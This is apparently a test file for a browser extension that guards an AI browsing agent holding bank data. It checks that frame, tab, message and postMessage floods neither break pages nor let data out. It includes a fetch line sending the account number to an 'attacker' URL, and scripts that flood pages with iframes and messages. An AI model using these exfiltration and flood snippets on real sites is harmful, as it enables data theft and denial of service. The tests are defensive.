// Very many frames, tabs, messages and events: held in bounds, still guarded, and the pages usable.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { test } from 'node:test';
import { agentFolder } from '../agents/extension-agent.mjs';
import { playwrightHands } from '../agents/playwright.mjs';
import { rawCdpHands } from '../agents/raw-cdp.mjs';
import { readBalance, replyInForum, signInToBank, until } from '../agents/tasks.mjs';
import { sceneOf } from '../attacks/attempt.mjs';
import { page, raw } from '../sites/html.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { PERSON, urlOf } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const FLOOD = 'flood.example';
const OTHER = 'other-flood.example';
const PRESS = `<button onclick="this.textContent='Pressed'">Press me</button>`;
/** What was read at the bank, to where nobody was. */
const AWAY = urlOf('attacker', `/c?d=${encodeURIComponent(PERSON.account)}`);

/** An agent that has read its bank account, and two sites that answer with what `bodies` has for a path. */
async function afterTheBank({ bodies, makeHands, args = [], ...options }, tell) {
  const flood = ({ path }) => page({ title: 'Flood', name: 'Flood', body: raw(bodies[path] ?? 'light') });
  const sites = await startSites({ extra: { [FLOOD]: flood, [OTHER]: flood } });
  const hands = await makeHands({ extension, args: [...flagsFor(sites, [FLOOD, OTHER]), ...args], ...options });
  const scene = sceneOf(hands, sites);
  try {
    await signInToBank(hands, scene.world);
    await readBalance(hands, scene.memory);
    await tell(scene);
  } finally {
    await hands.close();
    await sites.close();
  }
}

const patient = 60_000;
const pressed = async (hands) => {
  await hands.click({ button: 'Press me' });
  await until(
    async () => (await hands.run("document.querySelector('button').textContent")) === 'Pressed',
    'the button',
  );
};
const arrived = ({ records }) => records.filter(({ url }) => url.includes('/c')).length;
const leaves = (from) => `${from}.fetch('${AWAY}', { mode: 'no-cors' }).then(() => 'sent', () => 'stopped')`;

/** `INTERLOCK_ALL=1` runs them in full. */
const FRAMES = process.env.INTERLOCK_ALL ? 10_000 : 600;
// Chromium gives a page a thousand of them and leaves the rest of the elements empty.
const SHOWN = Math.min(FRAMES, 1_000);

test(`a page that adds ${FRAMES} frames: its button works, and nothing leaves by the last of them`, {
  timeout: 150_000,
}, async () => {
  const adds = `${PRESS}<div id="f" hidden></div><script>
    let made = 0;
    const more = () => {
      for (let n = 0; n < 200; n++) {
        const e = document.createElement('iframe');
        if (made++ % 2) e.srcdoc = '<p>Frame';
        f.append(e);
      }
      if (made < ${FRAMES}) setTimeout(more);
    };
    more();
  </script>`;
  await afterTheBank({ bodies: { '/': adds }, makeHands: rawCdpHands }, async ({ hands, sites }) => {
    await hands.goto(`http://${FLOOD}/`);
    await until(async () => (await hands.run('made')) === FRAMES, 'the frames', patient);
    await pressed(hands);
    assert.ok((await hands.run('frames.length')) >= SHOWN);
    assert.equal(await hands.run(leaves('frames[frames.length - 1]')), 'stopped');
    assert.equal(arrived(sites.collector), 0);
    const heap = await hands.run('performance.memory.usedJSHeapSize');
    assert.ok(heap < SHOWN * 2 ** 20, `the page's heap is ${Math.round(heap / 2 ** 20)} MiB`);
    await hands.goto(urlOf('forum', '/'));
  });
});

// A thousand need 110 s of this browser's own, without us; more processes than these, and the machine's memory.
const TABS = Number(process.env.INTERLOCK_TABS ?? (process.env.INTERLOCK_ALL ? 80 : 10));

test(`${TABS} tabs: honest work goes on, and nothing leaves by the last of them`, { timeout: 150_000 }, async () => {
  const args = ['--renderer-process-limit=3'];
  await afterTheBank({ bodies: {}, makeHands: rawCdpHands, args }, async ({ hands, sites, world }) => {
    for (let left = TABS; left > 1; left--)
      await hands.send('Target.createTarget', { url: `http://${FLOOD}/light`, background: true });
    const last = await hands.newTab(`http://${FLOOD}/light`);
    // Its document may have come by way of our hold page, and changed under the question.
    let said;
    await until(async () => (said = await last.run(leaves('window'))), 'the last tab', patient);
    assert.equal(said, 'stopped');
    assert.equal(arrived(sites.collector), 0);
    const posts = () => world.forum.threads.get('mug').posts.length;
    const before = posts();
    await until(() => replyInForum(hands, world).then(() => true), 'the reply', patient);
    assert.equal(posts(), before + 1);
  });
});

test('thousands of messages from another extension and opened ports: the guard goes on answering', {
  timeout: 60_000,
}, async () => {
  const folder = agentFolder();
  try {
    await afterTheBank(
      { bodies: {}, makeHands: playwrightHands, others: [folder] },
      async ({ hands, world, sites }) => {
        await hands.goto(urlOf('forum', '/'));
        const foreign = hands.context.serviceWorkers().find((w) => !w.url().includes(hands.id));
        const storm = foreign.evaluate(async (id) => {
          const refused = { 'not-allowed': 0, else: 0 };
          for (let round = 0; round < 20; round++)
            await Promise.all(
              Array.from({ length: 250 }, async (_, i) => {
                if (i % 10 === 0) chrome.runtime.connect(id).disconnect();
                const message = { interlock: 1, name: 'agent.check', request: { tab: i, junk: 'x'.repeat(5_000) } };
                const answer = await chrome.runtime.sendMessage(id, message).catch(() => undefined);
                refused[answer?.refused === 'not-allowed' ? 'not-allowed' : 'else'] += 1;
              }),
            );
          return refused;
        }, hands.id);
        assert.equal(await hands.run(leaves('window')), 'stopped');
        assert.deepEqual(await storm, { 'not-allowed': 5_000, else: 0 });
        assert.equal(arrived(sites.collector), 0);
        await replyInForum(hands, world);
      },
    );
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test('a page that presses, opens ports and is told private data thousands of times: none of it is heard, the rest goes on', {
  timeout: 90_000,
}, async () => {
  const top = `${PRESS}<iframe name="teller" title="Teller" src="http://${OTHER}/teller"></iframe><span role="button" id="x">x</span><script>
    window.told = 0;
    addEventListener('message', (e) => { if (String(e.data).includes('${PERSON.account}')) told++; });
    setInterval(() => { for (let n = 0; n < 50; n++) { x.click(); const { port1, port2 } = new MessageChannel(); port2.close(); port1.close(); } }, 50);
  </script>`;
  const teller = `<script>let n = 0; const more = () => { for (let i = 0; i < 100; i++, n++) parent.postMessage('the account is ${PERSON.account}, ' + n, '*'); if (n < 5_000) setTimeout(more, 20); }; more();</script>`;
  await afterTheBank(
    { bodies: { '/': top, '/teller': teller }, makeHands: playwrightHands },
    async ({ hands, world }) => {
      await hands.goto(`http://${FLOOD}/`);
      await hands.wait(3_000);
      await pressed(hands);
      assert.equal(await hands.run('told'), 0);
      const heap = await hands.run('performance.memory.usedJSHeapSize');
      assert.ok(heap < 300 * 2 ** 20, `the page's heap is ${Math.round(heap / 2 ** 20)} MiB`);
      await until(() => replyInForum(hands, world).then(() => true), 'the reply', 30_000);
    },
  );
});
